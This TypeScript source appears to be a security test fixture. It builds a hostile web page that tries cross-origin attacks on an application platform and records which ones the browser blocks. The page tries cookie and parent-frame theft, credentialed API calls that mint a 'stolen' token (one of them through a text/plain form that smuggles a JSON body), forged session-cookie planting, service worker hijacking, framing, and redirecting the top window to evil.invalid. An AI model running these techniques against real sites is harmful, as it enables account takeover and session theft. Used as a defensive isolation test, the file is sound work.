/**
 * A page that an application might show, and all that it tries at the platform. What came of each is
 * written into `#results`, as JSON: `failed: …` where the browser or the platform refused.
 */
export function attackPage(): string {
  return `<!doctype html><title>attack</title><h1>An application</h1><pre id="results"></pre>
<iframe name="sink" hidden></iframe>
<script>
const platform = new URLSearchParams(location.search).get("platform");
const results = {};
const attempt = async (name, what) => {
  try { results[name] = "did: " + String(await what()); }
  catch (error) { results[name] = "failed: " + (error.name || error); }
};
const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("nothing came")), 4000))]);
(async () => {
  await attempt("cookies", () => document.cookie.includes("atelier") ? document.cookie : Promise.reject("none"));
  await attempt("parentDocument", () => parent === window ? Promise.reject("no parent") : parent.document.cookie);
  await attempt("parentStorage", () => parent === window ? Promise.reject("no parent") : parent.localStorage.length);
  await attempt("platformStorage", () => localStorage.getItem("atelier.planted") || Promise.reject("none"));
  await attempt("apiRead", () => fetch(platform + "/api/v1/me", { credentials: "include" }).then((r) => r.text()));
  await attempt("apiReadOwn", () => fetch("/api/v1/me", { credentials: "include" }).then((r) => r.ok ? r.text() : Promise.reject("status " + r.status)));
  const body = JSON.stringify({ name: "stolen", expires_in_days: 30 });
  await attempt("apiWrite", () => fetch(platform + "/api/v1/me/tokens", { method: "POST", credentials: "include",
    headers: { "content-type": "application/json", "atelier-csrf": "1" }, body }).then((r) => r.ok ? r.text() : Promise.reject("status " + r.status)));
  await attempt("apiWriteSimple", () => fetch(platform + "/api/v1/me/tokens", { method: "POST", mode: "no-cors",
    credentials: "include", body }).then((r) => r.type === "opaque" ? Promise.reject("opaque") : r.text()));
  const form = document.createElement("form");
  form.method = "post"; form.enctype = "text/plain"; form.target = "sink"; form.action = platform + "/api/v1/me/tokens";
  form.innerHTML = "<input name='{\\"name\\":\\"stolen\\",\\"expires_in_days\\":30,\\"x\\":\\"' value='\\"}'>";
  document.body.append(form); form.submit();
  await attempt("socket", () => within(new Promise((yes, no) => {
    const socket = new WebSocket(platform.replace("http", "ws") + "/api/v1/events");
    socket.onopen = () => yes("open"); socket.onerror = () => no(new Error("refused"));
  })));
  await attempt("worker", () => navigator.serviceWorker.register(platform + "/sw.js", { scope: "/" }).then((r) => r.scope));
  await attempt("workerOfRoot", () => location.origin === platform || location.href.startsWith(platform + "/")
    ? navigator.serviceWorker.register("sw.js", { scope: "/" }).then((r) => r.scope) : Promise.reject("own origin"));
  await attempt("frame", () => within(new Promise((yes, no) => {
    const frame = document.createElement("iframe"); frame.src = platform + "/"; frame.name = "framed";
    frame.onload = () => { try { yes(frame.contentDocument.title); } catch (error) { no(error); } };
    document.body.append(frame);
  })));
  await attempt("script", () => within(new Promise((yes, no) => {
    const script = document.createElement("script"); script.src = platform + "/api/v1/me";
    script.onload = () => no(new Error("not a script")); script.onerror = () => no(new Error("refused"));
    document.body.append(script);
  })));
  await attempt("plantedCookie", () => {
    for (const domain of ["localhost", ".localhost", location.hostname.split(".").slice(1).join("."), new URL(platform).hostname]) {
      document.cookie = "planted=1; path=/; domain=" + domain;
      document.cookie = "atelier_session=evil; path=/; domain=" + domain;
    }
    document.cookie = "planted=1; path=/";
    return "tried";
  });
  await attempt("top", () => { if (top === window) throw new Error("no top"); top.location = "https://evil.invalid/"; return "asked"; });
  await attempt("topHref", () => { if (top === window) throw new Error("no top"); top.location.href = platform + "/setup"; return "asked"; });
  document.getElementById("results").textContent = JSON.stringify(results);
})();
</script>`;
}
